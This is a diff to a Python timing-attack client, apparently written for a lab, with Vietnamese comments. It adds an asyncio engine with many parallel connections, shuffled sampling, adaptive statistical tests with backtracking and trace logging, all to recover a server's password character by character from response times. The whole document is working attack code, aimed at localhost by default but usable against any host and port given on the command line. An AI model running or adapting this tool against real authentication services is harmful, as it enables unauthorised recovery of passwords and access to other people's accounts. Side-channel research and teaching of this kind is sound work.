@@ -1,10 +1,18 @@
+import argparse
+import asyncio
+import random
 import socket
 import time
 import string
 
+from timing_stats import SequentialTest, prefix_consistent
+from timing_trace import TraceRecorder
+
 POSSIBLE_CHARACTERS = string.ascii_lowercase + string.digits
 NUM_SAMPLES_PER_CHAR = 10 
 EXPECTED_SERVER_PER_CHAR_DELAY = 0.05
+NUM_CONNECTIONS = 72 # Kết nối song song của engine asyncio (server mặc định cho phép 256)
+MAX_BACKTRACKS = 5 # Số lần tối đa quay lui về vị trí trước (chế độ thích ứng)
 
 def measure_time(sock, attempt_password):
     total_time = 0
@@ -20,10 +28,201 @@ def measure_time(sock, attempt_password):
         total_time += (end_time - start_time)
     return total_time / NUM_SAMPLES_PER_CHAR
 
-def main():
-    host = '127.0.0.1'
-    port = 12345
+# --- Engine đo song song (asyncio) ---
+
+class MeasurementEngine:
+    """Pool of persistent connections to the asyncio server, probed concurrently.
+
+    Requests are newline-framed, so a connection stays open for any number
+    of probes.  Each probe takes a free connection, times one round trip
+    with perf_counter_ns and hands the connection back.  With a
+    TraceRecorder attached, every raw sample is recorded as well.
+    """
+
+    def __init__(self, host, port, connections=NUM_CONNECTIONS, recorder=None):
+        self.host = host
+        self.port = port
+        self.connections = connections
+        self.recorder = recorder
+        self.requests = 0
+        self._idle = asyncio.Queue()
+        self._writers = []
+
+    async def __aenter__(self):
+        for conn_id in range(self.connections):
+            reader, writer = await asyncio.open_connection(self.host, self.port)
+            self._writers.append(writer)
+            self._idle.put_nowait((conn_id, reader, writer))
+        return self
+
+    async def __aexit__(self, *exc_info):
+        for writer in self._writers:
+            writer.close()
+        for writer in self._writers:
+            try:
+                await writer.wait_closed()
+            except ConnectionError:
+                pass
+
+    def new_attempt(self):
+        """Mark the start of a measured position in the trace."""
+        if self.recorder is not None:
+            self.recorder.new_attempt()
+
+    async def probe(self, password, record=True):
+        """(elapsed ns, response, connection id) of one request."""
+        conn_id, reader, writer = await self._idle.get()
+        try:
+            start = time.perf_counter_ns()
+            writer.write(password.encode() + b"\n")
+            await writer.drain()
+            response = await reader.readline()
+            elapsed = time.perf_counter_ns() - start
+        finally:
+            self._idle.put_nowait((conn_id, reader, writer))
+        if not response:
+            raise ConnectionResetError("server closed the connection")
+        self.requests += 1
+        if record and self.recorder is not None:
+            self.recorder.record(start, elapsed, len(password) - 1, password[-1:], conn_id)
+        return elapsed, response.decode().strip(), conn_id
+
+    async def sample(self, prefix, candidates, samples):
+        """{char: [seconds, ...]} with `samples` probes of prefix + char for every candidate.
+
+        The probes are issued in rounds, one per candidate in shuffled
+        order, so drift and noise are spread evenly over all candidates.
+        """
+        schedule = []
+        for _ in range(samples):
+            round_order = list(candidates)
+            random.shuffle(round_order)
+            schedule += round_order
+        # Queue waiters are served first come, first served: probes start in schedule order
+        results = await asyncio.gather(*(self.probe(prefix + char) for char in schedule))
+        timings = {char: [] for char in candidates}
+        for char, (elapsed, _, _) in zip(schedule, results):
+            timings[char].append(elapsed / 1e9)
+        return timings
+
+    async def check(self, password):
+        _, response, _ = await self.probe(password, record=False)
+        return response == "ACCESS_GRANTED"
+
+def _choose_best(position, timings):
+    """In top 3 của vị trí và trả về (ký tự, thời gian) chậm nhất."""
+    sorted_timings = sorted(timings.items(), key=lambda item: item[1], reverse=True)
+    best_char, best_time = sorted_timings[0]
+
+    print(f"    --- Top 3 timings (cho vị trí {position}) ---")
+    for char, t_avg in sorted_timings[:3]:
+        print(f"    '{char}': {t_avg:.6f} s")
+    print(f"    -------------------")
+
+    if len(sorted_timings) > 1:
+        second_best_time = sorted_timings[1][1]
+        if (best_time - second_best_time) < (EXPECTED_SERVER_PER_CHAR_DELAY * 0.4):
+            print(f"    [!] Cảnh báo: Sự khác biệt thời gian giữa '{best_char}' ({best_time:.6f}s) và ký tự tốt thứ hai '{sorted_timings[1][0]}' ({second_best_time:.6f}s) là nhỏ.")
+    return best_char, best_time
+
+async def crack_password(host, port, connections=NUM_CONNECTIONS, samples=NUM_SAMPLES_PER_CHAR, max_password_length=30,
+                         recorder=None):
+    """Phá mật khẩu bằng MeasurementEngine; trả về mật khẩu hoặc None."""
+    start = time.perf_counter()
+    cracked_password = ""
+    async with MeasurementEngine(host, port, connections, recorder) as engine:
+        for i in range(max_password_length):
+            print(f"\n[*] Đang thử ký tự thứ {i+1} ({len(POSSIBLE_CHARACTERS)} ký tự x {samples} mẫu, {connections} kết nối)...")
+            engine.new_attempt()
+            samples_by_char = await engine.sample(cracked_password, POSSIBLE_CHARACTERS, samples)
+            timings = {char: sum(values) / len(values) for char, values in samples_by_char.items()}
+            best_char, best_time = _choose_best(i + 1, timings)
+
+            cracked_password += best_char
+            print(f"[+] Ký tự tiếp theo có khả năng là: '{best_char}' (Thời gian: {best_time:.6f} s)")
+            print(f"[*] Mật khẩu hiện tại: {cracked_password}")
+            if await engine.check(cracked_password):
+                print(f"\n[SUCCESS] Mật khẩu đã được phá giải hoàn toàn: {cracked_password}")
+                print(f"[*] {engine.requests} yêu cầu trong {time.perf_counter() - start:.2f} s")
+                return cracked_password
+
+    print(f"\n[!] Không thể phá giải mật khẩu hoàn toàn sau {max_password_length} ký tự.")
+    return None
+
+# --- Lấy mẫu thích ứng ---
 
+async def decide_position(engine, prefix, candidates, previous=None, **test_options):
+    """Run a SequentialTest for prefix + char over the candidates.
+
+    Every candidate first gets min_samples probes; after that each round
+    samples only the contenders still alive, one probe each.  With the
+    previous position's test given, sampling stops as soon as the new
+    samples contradict its choice (nothing will separate after a wrong
+    prefix).
+    """
+    test = SequentialTest(candidates, **test_options)
+    engine.new_attempt()
+    rounds = test.min_samples
+    while not test.decided and not (previous and test.requests() and not prefix_consistent(previous, test)):
+        samples_by_char = await engine.sample(prefix, test.alive, rounds)
+        for char, values in samples_by_char.items():
+            for seconds in values:
+                test.add(char, seconds)
+        test.update()
+        rounds = 1
+    return test
+
+async def crack_password_adaptive(host, port, connections=NUM_CONNECTIONS, max_password_length=30,
+                                  max_backtracks=MAX_BACKTRACKS, recorder=None):
+    """Phá mật khẩu với lấy mẫu thích ứng; quay lui khi vị trí sau không xác nhận lựa chọn trước."""
+    start = time.perf_counter()
+    cracked_password = ""
+    tests = []          # SequentialTest của từng vị trí đã chọn
+    excluded = [set()]  # Ký tự đã bị loại ở từng vị trí sau khi quay lui
+    backtracks = 0
+    async with MeasurementEngine(host, port, connections, recorder) as engine:
+        while len(cracked_password) < max_password_length:
+            position = len(cracked_password)
+            candidates = [char for char in POSSIBLE_CHARACTERS if char not in excluded[position]]
+            if not candidates:
+                break
+            print(f"\n[*] Đang thử ký tự thứ {position+1} ({len(candidates)} ký tự, lấy mẫu thích ứng)...")
+            previous = tests[-1] if tests and backtracks < max_backtracks else None
+            test = await decide_position(engine, cracked_password, candidates, previous)
+
+            if previous and not prefix_consistent(previous, test):
+                wrong_char = cracked_password[-1]
+                print(f"    [!] Vị trí {position+1} không xác nhận '{wrong_char}' ở vị trí {position}: quay lui.")
+                cracked_password = cracked_password[:-1]
+                tests.pop()
+                excluded.pop()
+                excluded[-1].add(wrong_char)
+                backtracks += 1
+                continue
+
+            # Ký tự bị loại giữ vị trí cũ (ít mẫu, nhiễu): chỉ chọn và in trong số còn lại, như replay()
+            _choose_best(position + 1, {char: test.location(char) for char in test.alive})
+            best_char = test.leader()
+            best_time = test.location(best_char)
+            certainty = "chắc chắn" if test.confident else f"hết ngân sách, còn {len(test.alive)} ứng viên"
+            print(f"    {test.requests()} mẫu ({certainty})")
+
+            cracked_password += best_char
+            tests.append(test)
+            excluded.append(set())
+            print(f"[+] Ký tự tiếp theo có khả năng là: '{best_char}' (Thời gian: {best_time:.6f} s)")
+            print(f"[*] Mật khẩu hiện tại: {cracked_password}")
+            if await engine.check(cracked_password):
+                print(f"\n[SUCCESS] Mật khẩu đã được phá giải hoàn toàn: {cracked_password}")
+                print(f"[*] {engine.requests} yêu cầu trong {time.perf_counter() - start:.2f} s ({backtracks} lần quay lui)")
+                return cracked_password
+
+    print(f"\n[!] Không thể phá giải mật khẩu hoàn toàn sau {max_password_length} ký tự.")
+    return None
+
+# --- Client gốc (tuần tự, một kết nối cho mỗi ký tự) ---
+
+def run_sequential(host, port):
     print("[*] Client tấn công Timing Attack đang khởi động...")
     print(f"[*] Sẽ lấy {NUM_SAMPLES_PER_CHAR} mẫu cho mỗi ký tự.")
 
@@ -65,22 +264,9 @@ def main():
                 print("\n[!] Không nhận được thời gian nào từ server.")
                 break
 
-            sorted_timings = sorted(timings.items(), key=lambda item: item[1], reverse=True)
-            best_char = sorted_timings[0][0]
-            best_time = sorted_timings[0][1]
-
             # Xóa dòng tiến trình \r trước đó bằng cách in nhiều khoảng trắng và \r
             print(f"\r{' ' * 80}\r", end="")
-            print(f"    --- Top 3 timings (cho vị trí {i+1}) ---")
-            for char, t_avg in sorted_timings[:3]:
-                print(f"    '{char}': {t_avg:.6f} s")
-            print(f"    -------------------")
-
-            if len(sorted_timings) > 1:
-                second_best_time = sorted_timings[1][1]
-                # Điều chỉnh ngưỡng cảnh báo dựa trên EXPECTED_SERVER_PER_CHAR_DELAY
-                if (best_time - second_best_time) < (EXPECTED_SERVER_PER_CHAR_DELAY * 0.4):
-                     print(f"    [!] Cảnh báo: Sự khác biệt thời gian giữa '{best_char}' ({best_time:.6f}s) và ký tự tốt thứ hai '{sorted_timings[1][0]}' ({second_best_time:.6f}s) là nhỏ.")
+            best_char, best_time = _choose_best(i + 1, timings)
 
             cracked_password += best_char
             print(f"\n[+] Ký tự tiếp theo có khả năng là: '{best_char}' (Thời gian: {best_time:.6f} s)")
@@ -108,5 +294,44 @@ def main():
     finally:
         print("[*] Client tấn công đã kết thúc.")
 
+def main():
+    parser = argparse.ArgumentParser(description="Client tấn công Timing Attack.")
+    parser.add_argument("--host", default='127.0.0.1')
+    parser.add_argument("--port", type=int, default=12345)
+    parser.add_argument("--sequential", action="store_true",
+                        help="client gốc: một kết nối mới cho mỗi ký tự, đo tuần tự")
+    parser.add_argument("--connections", type=int, default=NUM_CONNECTIONS)
+    parser.add_argument("--samples", type=int, default=NUM_SAMPLES_PER_CHAR)
+    parser.add_argument("--adaptive", action="store_true",
+                        help="lấy mẫu thích ứng: loại sớm ký tự thua, quay lui khi cần (bỏ qua --samples)")
+    parser.add_argument("--trace", help="ghi mọi mẫu thô vào file trace này (phân tích bằng timing_trace.py)")
+    args = parser.parse_args()
+    if args.sequential and args.trace:
+        parser.error("--trace chỉ dùng được với client asyncio, không dùng với --sequential")
+
+    if args.sequential:
+        run_sequential(args.host, args.port)
+        return
+
+    print("[*] Client tấn công Timing Attack (asyncio) đang khởi động...")
+    try:
+        recorder = TraceRecorder(args.trace, POSSIBLE_CHARACTERS, {"host": args.host, "port": args.port}) if args.trace else None
+        try:
+            if args.adaptive:
+                asyncio.run(crack_password_adaptive(args.host, args.port, args.connections, recorder=recorder))
+            else:
+                asyncio.run(crack_password(args.host, args.port, args.connections, args.samples, recorder=recorder))
+        finally:
+            if recorder is not None:
+                recorder.close()
+                print(f"[*] Đã ghi {recorder.samples} mẫu vào {args.trace}")
+    except OSError as e:
+        print(f"\n[!] Lỗi kết nối: {e}")
+        print("[!] Hãy đảm bảo server đang chạy (chế độ asyncio).")
+    except KeyboardInterrupt:
+        print("\n[-] Tấn công bị dừng bởi người dùng.")
+    finally:
+        print("[*] Client tấn công đã kết thúc.")
+
 if __name__ == "__main__":
     main()
\ No newline at end of file